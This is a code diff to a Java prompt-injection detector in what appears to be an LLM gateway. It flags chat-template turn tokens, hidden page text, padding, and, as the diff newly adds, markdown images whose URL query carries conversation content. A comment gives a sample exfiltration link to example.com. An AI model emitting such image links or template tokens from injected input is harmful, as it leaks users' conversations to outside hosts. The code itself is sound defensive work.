@@ -1,13 +1,18 @@
 package io.llmgateway.core.injection;
 
 import io.llmgateway.core.detect.Sheet;
+import java.util.ArrayList;
+import java.util.HashMap;
 import java.util.List;
+import java.util.Map;
+import org.jspecify.annotations.Nullable;
 
 /** Marks of the formats in which models get conversations, and of hidden parts of pages. None of them is a word. */
 final class Sign {
     /** The number of the first rule of a sign; those of the book are below. */
     static final int FIRST = 4_000;
 
+    private static final int LONGEST_PICTURE = 240; // chars
     private static final int[] NOTHING = {};
     private static final List<Sign> TEMPLATES = List.of(
             new Sign("<|im_start|>", .72),
@@ -65,12 +70,18 @@ final class Sign {
             new Sign("color:white", .3),
             new Sign("color: white", .3));
 
+    private static final Map<Integer, List<Placed>> BY_PAIR = byPair();
+
+    private record Placed(String written, Rule rule) {}
+
     /** Much of the same, which has been seen to make models lose what came before. */
     static final Rule PADDING = rule("padding", .5, FIRST + 1);
     /** A turn of the system at the beginning of a line. */
     static final Rule TURN = rule("turn", .4, FIRST + 2);
     /** A part of a page that readers do not see. */
     static final Rule UNSEEN = rule("unseen", .3, FIRST + 3);
+    /** A picture whose address takes something along. */
+    static final Rule PICTURE = rule("exfiltration", .72, FIRST + 4);
     /** How many numbers signs may have. */
     static final int NUMBERS = 100;
 
@@ -88,24 +99,67 @@ final class Sign {
 
     /** Whether a sign may begin with a char. */
     static boolean opens(char c) {
-        return c == '<' || c == '[' || c == '#' || c == '(' || c == '{';
+        return c == '!' || c == '<' || c == '[' || c == '#' || c == '(' || c == '{';
     }
 
     /** The sign at a place; null where there is none. */
-    static @org.jspecify.annotations.Nullable Rule at(Sheet sheet, int place) {
-        for (int i = 0; i < TEMPLATES.size(); i++) {
-            Sign sign = TEMPLATES.get(i);
-            if (sheet.is(place, sign.written)) {
-                return rule("template", sign.weight, FIRST + 10 + i);
-            }
+    static @Nullable Rule at(Sheet sheet, int place) {
+        if (sheet.at(place) == '!') {
+            return picture(sheet, place) ? PICTURE : null;
         }
-        for (int i = 0; i < TURNS.size(); i++) {
-            Sign sign = TURNS.get(i);
+        char next = sheet.at(place + 1);
+        if (next >= 128) {
+            return null;
+        }
+        for (Placed sign : BY_PAIR.getOrDefault(pair(sheet.at(place), next), List.of())) {
             if (sheet.is(place, sign.written)) {
-                return rule("turn", sign.weight, FIRST + 40 + i);
+                return sign.rule;
             }
         }
         return null;
+    }
+
+    private static int pair(char first, char second) {
+        return first << 7 | (second >= 'A' && second <= 'Z' ? second + 32 : second);
+    }
+
+    private static Map<Integer, List<Placed>> byPair() {
+        Map<Integer, List<Placed>> all = new HashMap<>();
+        place(TEMPLATES, "template", FIRST + 10, all);
+        place(TURNS, "turn", FIRST + 50, all);
+        return Map.copyOf(all);
+    }
+
+    private static void place(List<Sign> signs, String family, int first, Map<Integer, List<Placed>> all) {
+        for (int i = 0; i < signs.size(); i++) {
+            Sign sign = signs.get(i);
+            all.computeIfAbsent(pair(sign.written.charAt(0), sign.written.charAt(1)), unknown -> new ArrayList<>())
+                    .add(new Placed(sign.written, rule(family, sign.weight, first + i)));
+        }
+    }
+
+    // "![](https://example.com/?q=[what was said])"
+    private static boolean picture(Sheet sheet, int place) {
+        if (sheet.at(place + 1) != '[') {
+            return false;
+        }
+        int i = place + 1;
+        int end = place + LONGEST_PICTURE;
+        while (i < place + LONGEST_PICTURE / 4 && sheet.at(i) != ']' && sheet.at(i) != '\n') {
+            i++;
+        }
+        if (!sheet.is(i, "](http")) {
+            return false;
+        }
+        boolean query = false;
+        for (i += 6; i < end && sheet.at(i) != ')' && sheet.at(i) != '\n'; i++) {
+            char c = sheet.at(i);
+            query |= c == '?' || c == '=';
+            if (query && (c == '[' || c == '{' || c == '<')) {
+                return true;
+            }
+        }
+        return false;
     }
 
     /** Whether a text hides a part of itself from readers. */
